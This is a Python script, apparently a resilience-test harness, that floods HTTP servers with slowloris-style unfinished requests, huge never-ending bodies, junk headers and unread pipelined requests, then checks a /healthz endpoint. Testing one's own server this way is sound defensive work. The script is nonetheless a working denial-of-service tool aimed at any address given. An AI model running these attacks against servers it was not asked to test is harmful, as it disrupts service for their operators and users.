# SPDX-License-Identifier: Apache-2.0
"""An attacker that can reach an open port: attack.py KIND SECONDS TARGET..., or attack.py ask TARGET.

A TARGET is ADDRESS:PORT of an HTTP server. All targets are attacked at once for that time. Connections that are closed are opened
again. KIND:
  begun       more than 128 requests that begin and never end
  unfinished  16 MiB of requests that never end
  unknown     4 MiB of unknown header lines
  slow        many requests on each of 128 connections, without reading an answer
  endless     complete requests without end on each of 4 connections, with reading all answers
At the end it prints for each target how many connections were made and how many bytes were accepted, and fails if that is less than
described above. `ask` does what a probe does, and prints the status code of /healthz."""

import select
import socket
import sys
import time

KIB, MIB = 1 << 10, 1 << 20
REOPEN_AFTER = 0.2  # s until a closed connection is opened again
GET = b"GET /metrics HTTP/1.1\r\nHost: a\r\n"


class Attack:
    """What a connection does: it sends `first` once, then the results of `more`, a piece at a time, up to `each` bytes."""
    connections, first, each, reads = 16, b"", 0, True

    def more(self):
        return b""


class Begun(Attack):
    connections, first = 160, GET + b"X-Begun: "


class Unfinished(Attack):
    connections, first, each = 64, GET + b"Content-Length: 1000000000\r\n\r\n", MIB // 2

    def more(self):
        return bytes(16 * KIB)


class Unknown(Attack):
    first, each = GET, MIB

    def more(self):
        return b"X-Unknown: a\r\n" * 1000


class Slow(Attack):
    connections, first, reads = 128, (GET + b"\r\n") * 32, False


class Endless(Attack):
    connections, each = 4, float("inf")

    def more(self):
        return b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n" * 1000


# The attack, and the least numbers of connections and bytes.
KINDS = {
    "begun": (Begun, 128, 0),
    "unfinished": (Unfinished, 16, 16 * MIB),
    "unknown": (Unknown, 16, 4 * MIB),
    "slow": (Slow, 32, 0),
    "endless": (Endless, 4, 1 * MIB),
}


def address(target):
    host, port = target.rsplit(":", 1)
    return host, int(port)


class Target:
    def __init__(self, name, attack):
        self.name, self.address, self.attack = name, address(name), attack
        self.made = self.taken = 0


class Connection:
    def __init__(self, target, poll, by_fd):
        self.target, self.poll, self.by_fd, self.reopen_at = target, poll, by_fd, 0
        self.open()

    def open(self):
        a = self.target.attack
        self.sock = socket.socket()
        if not a.reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2 * KIB)
        self.sock.setblocking(False)
        self.sock.connect_ex(self.target.address)
        self.out, self.sent, self.made = a.first, 0, False
        self.by_fd[self.sock.fileno()] = self
        self.poll.register(self.sock, select.EPOLLOUT)

    def close(self):
        del self.by_fd[self.sock.fileno()]
        self.sock.close()
        self.sock, self.reopen_at = None, time.monotonic() + REOPEN_AFTER

    def has_more(self):
        return self.sent < self.target.attack.each

    def write(self):
        if not self.made:
            self.made = True
            self.target.made += 1
        if not self.out and self.has_more():
            self.out = self.target.attack.more()
        n = self.sock.send(self.out) if self.out else 0
        self.out = self.out[n:]
        self.sent += n
        self.target.taken += n

    def on_event(self, events):
        a = self.target.attack
        try:
            if events & (select.EPOLLERR | select.EPOLLHUP):
                raise ConnectionError
            if events & select.EPOLLIN:
                if not self.sock.recv(64 * KIB):
                    raise ConnectionError
            elif events & select.EPOLLRDHUP:
                raise ConnectionError
            if events & select.EPOLLOUT:
                self.write()
        except BlockingIOError:
            pass
        except OSError:
            self.close()
            return
        # A connection that does not read is notified of the end all the same.
        self.poll.modify(self.sock, select.EPOLLRDHUP | (select.EPOLLIN if a.reads else 0) |
                         (select.EPOLLOUT if self.out or self.has_more() else 0))


def attack(kind, seconds, names):
    kind_of_attack, least_connections, least_bytes = KINDS[kind]
    poll, by_fd = select.epoll(), {}
    targets = [Target(name, kind_of_attack()) for name in names]
    connections = [Connection(t, poll, by_fd) for t in targets for _ in range(t.attack.connections)]
    end = time.monotonic() + seconds
    while (now := time.monotonic()) < end:
        for c in connections:
            if not c.sock and c.reopen_at <= now:
                c.open()
        for fd, events in poll.poll(REOPEN_AFTER / 2):
            if fd in by_fd:
                by_fd[fd].on_event(events)
    for t in targets:
        print(f"{t.name} {kind}: {t.made} connections, {t.taken} bytes")
    return all(t.made >= min(least_connections, t.attack.connections) and t.taken >= least_bytes for t in targets)


def ask(target):
    with socket.create_connection(address(target), timeout=5) as s:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        answer = s.recv(KIB).split()
        return answer[1].decode() if len(answer) > 1 else "nothing"


if sys.argv[1] == "ask":
    print(ask(sys.argv[2]))
else:
    sys.exit(0 if attack(sys.argv[1], float(sys.argv[2]), sys.argv[3:]) else 1)
